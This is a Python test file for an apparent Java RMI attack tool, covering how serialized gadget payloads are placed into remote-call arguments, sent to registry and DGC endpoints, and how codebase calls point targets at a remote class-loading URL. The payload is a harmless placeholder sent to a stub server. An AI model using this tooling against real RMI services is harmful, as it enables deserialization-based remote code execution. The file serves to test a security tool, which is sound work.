"""Tests for attack call construction and verdicts."""

import pathlib
import struct

import pytest

from rmiguess.attacks import DEFAULT_CODEBASE_CLASS
from rmiguess.attacks import AttackResult
from rmiguess.attacks import CallSite
from rmiguess.attacks import DeserializationAttackBuilder
from rmiguess.attacks import describe_outcome
from rmiguess.candidates import MethodCandidate
from rmiguess.classification import Classification
from rmiguess.client import RmiClient
from rmiguess.envelope import DecodedCall
from rmiguess.envelope import DispatchStyle
from rmiguess.envelope import RemoteCall
from rmiguess.envelope import decode_call
from rmiguess.envelope import encode_call
from rmiguess.errors import GadgetGenerationError
from rmiguess.errors import InvalidArgumentPositionError
from rmiguess.gadgets import Gadget
from rmiguess.objid import ObjID
from rmiguess.serialization import STREAM_HEADER
from rmiguess.serialization import TC_CLASSDESC
from rmiguess.serialization import TC_ENDBLOCKDATA
from rmiguess.serialization import TC_NULL
from rmiguess.serialization import TC_OBJECT
from rmiguess.serialization import JavaObject
from rmiguess.serialization import encode_utf
from rmiguess.services import DGC_OPERATIONS
from rmiguess.services import REGISTRY_OPERATIONS
from rmiguess.transport import Endpoint
from tests.fixtures.fakes import RecordingInvoker
from tests.fixtures.fakes import raised
from tests.fixtures.fakes import returned
from tests.fixtures.jrmp_stub import ScriptedRemote
from tests.fixtures.jrmp_stub import StubJrmpServer

ENDPOINT: Endpoint = Endpoint("10.0.0.5", 1099)
GADGET_CLASS: str = "example.Gadget"


def _gadget() -> Gadget:
    """A plain object stream holding one field-less serializable object.

    :returns: Gadget wrapping the stream.
    """
    payload: bytes = (
        STREAM_HEADER
        + bytes([TC_OBJECT, TC_CLASSDESC])
        + encode_utf(GADGET_CLASS)
        + struct.pack(">q", 1)
        + struct.pack(">Bh", 0x02, 0)
        + bytes([TC_ENDBLOCKDATA, TC_NULL])
    )
    return Gadget("Example", "id", payload)


def _method_site() -> CallSite:
    candidate: MethodCandidate = MethodCandidate.from_signature("void submit(int id, String name, java.util.List items)")
    return CallSite.for_candidate(ObjID(4242), candidate, DispatchStyle.MODERN)


@pytest.mark.parametrize(("position", "expected_slot"), [(None, 1), (1, 1), (2, 2)])
def test_payload_lands_in_the_chosen_slot(position: int | None, expected_slot: int) -> None:
    """Verify the payload occupies exactly the requested argument slot.

    :param position: Requested slot.
    :param expected_slot: Slot the payload must be decoded from.
    """
    site: CallSite = _method_site()
    call: RemoteCall = DeserializationAttackBuilder(RecordingInvoker(lambda e, c: returned())).build_call(
        site, _gadget(), position
    )
    decoded: DecodedCall = decode_call(encode_call(call), site.parameter_descriptors)

    assert decoded.objid == ObjID(4242)
    assert decoded.selector == site.selector
    assert decoded.arguments[0].value == 0
    for index in (1, 2):
        value: object = decoded.arguments[index].value
        if index == expected_slot:
            assert isinstance(value, JavaObject) is True
            assert value.class_name == GADGET_CLASS
        else:
            assert value is None


@pytest.mark.parametrize("position", [-1, 0, 3])
def test_unusable_position_fails_before_sending(position: int) -> None:
    """Verify out of range and primitive slots are rejected without network traffic.

    :param position: Requested slot.
    """
    invoker: RecordingInvoker = RecordingInvoker(lambda e, c: returned())
    builder: DeserializationAttackBuilder = DeserializationAttackBuilder(invoker)
    with pytest.raises(InvalidArgumentPositionError):
        builder.attack(ENDPOINT, _method_site(), _gadget(), position)
    assert invoker.calls == []


def test_method_without_object_parameters_cannot_carry_payloads() -> None:
    candidate: MethodCandidate = MethodCandidate.from_signature("void resize(int width, int height)")
    site: CallSite = CallSite.for_candidate(ObjID(1), candidate, DispatchStyle.MODERN)
    invoker: RecordingInvoker = RecordingInvoker(lambda e, c: returned())
    with pytest.raises(InvalidArgumentPositionError):
        DeserializationAttackBuilder(invoker).attack(ENDPOINT, site, _gadget())
    assert invoker.calls == []


def test_dgc_attack_keeps_the_remaining_arguments_valid() -> None:
    """Verify the well-known DGC call is ordinal addressed and fully decodable."""
    site: CallSite = CallSite.for_operation(DGC_OPERATIONS["clean"])
    call: RemoteCall = DeserializationAttackBuilder(RecordingInvoker(lambda e, c: returned())).build_call(site, _gadget())
    decoded: DecodedCall = decode_call(encode_call(call), site.parameter_descriptors)
    assert decoded.selector.operation == 0
    assert decoded.arguments[0].value.class_name == GADGET_CLASS
    assert decoded.arguments[1].value == 0
    assert decoded.arguments[2].value is None
    assert decoded.arguments[3].value is False
    with pytest.raises(InvalidArgumentPositionError):
        DeserializationAttackBuilder(RecordingInvoker(lambda e, c: returned())).build_call(site, _gadget(), 1)


def test_localhost_bypass_site_uses_the_method_hash() -> None:
    site: CallSite = CallSite.for_operation(REGISTRY_OPERATIONS["bind"], modern=True)
    assert site.style is DispatchStyle.MODERN
    assert site.selector.operation == -1
    assert site.selector.hash == REGISTRY_OPERATIONS["bind"].method_hash


def test_codebase_call_carries_the_annotation() -> None:
    site: CallSite = _method_site()
    call: RemoteCall = DeserializationAttackBuilder(RecordingInvoker(lambda e, c: returned())).build_codebase_call(
        site, "http://10.0.0.1:8000/"
    )
    decoded: DecodedCall = decode_call(encode_call(call), site.parameter_descriptors)
    value: object = decoded.arguments[1].value
    assert isinstance(value, JavaObject) is True
    assert value.class_name == DEFAULT_CODEBASE_CLASS
    assert value.desc.annotation == "http://10.0.0.1:8000/"


def test_codebase_verdict_for_missing_class() -> None:
    invoker: RecordingInvoker = RecordingInvoker(lambda e, c: raised(Classification.CLASS_NOT_FOUND, "java.lang.ClassNotFoundException"))
    result: AttackResult = DeserializationAttackBuilder(invoker).codebase_attack(
        ENDPOINT, _method_site(), "http://10.0.0.1:8000/", "example.Loader"
    )
    assert "remote class loading disabled" in result.verdict
    assert len(invoker.calls) == 1


@pytest.mark.parametrize(
    ("classification", "verdict"),
    [
        (Classification.DESERIALIZATION_TRIGGERED, "payload was deserialized by the target"),
        (Classification.FILTER_REJECTED, "payload was rejected by a deserialization filter"),
        (Classification.ACCESS_DENIED, "call was rejected before its arguments were read"),
        (Classification.METHOD_NOT_FOUND, "target method does not exist, payload was not read"),
    ],
)
def test_verdicts(classification: Classification, verdict: str) -> None:
    """Verify attack verdicts per reply classification.

    :param classification: Reply classification.
    :param verdict: Expected verdict.
    """
    assert describe_outcome(raised(classification)) == verdict


def test_normal_return_and_unclassified_verdicts() -> None:
    assert describe_outcome(returned()) == "call returned normally, the payload was deserialized"
    assert describe_outcome(raised(Classification.OTHER, "java.lang.IllegalStateException", "boom")).startswith(
        "unclassified exception"
    )


def test_registry_attack_against_scripted_endpoint(
    scripted: ScriptedRemote,
    stub_server: StubJrmpServer,
    client: RmiClient,
) -> None:
    """Verify a payload sent to the registry is read and reported as deserialized.

    :param scripted: Scripted endpoint.
    :param stub_server: Running stub server.
    :param client: Client under test.
    """
    site: CallSite = CallSite.for_operation(REGISTRY_OPERATIONS["lookup"])
    result: AttackResult = DeserializationAttackBuilder(client).attack(stub_server.endpoint, site, _gadget())
    assert result.classification is Classification.DESERIALIZATION_TRIGGERED
    assert result.verdict == "payload was deserialized by the target"
    assert result.label == "registry.lookup"


def test_filtered_registry_rejects_the_payload(
    scripted: ScriptedRemote,
    stub_server: StubJrmpServer,
    client: RmiClient,
) -> None:
    scripted.filter_enabled = True
    site: CallSite = CallSite.for_operation(REGISTRY_OPERATIONS["lookup"])
    result: AttackResult = DeserializationAttackBuilder(client).attack(stub_server.endpoint, site, _gadget())
    assert result.classification is Classification.FILTER_REJECTED


def test_gadget_from_file(tmp_path: pathlib.Path) -> None:
    """Verify pre-generated payloads are read verbatim.

    :param tmp_path: Temporary directory.
    """
    path: pathlib.Path = tmp_path / "payload.ser"
    path.write_bytes(_gadget().payload)
    gadget: Gadget = Gadget.from_file(path)
    assert gadget.payload == _gadget().payload
    assert gadget.command == str(path)
    with pytest.raises(GadgetGenerationError):
        Gadget.from_file(tmp_path / "missing.ser")
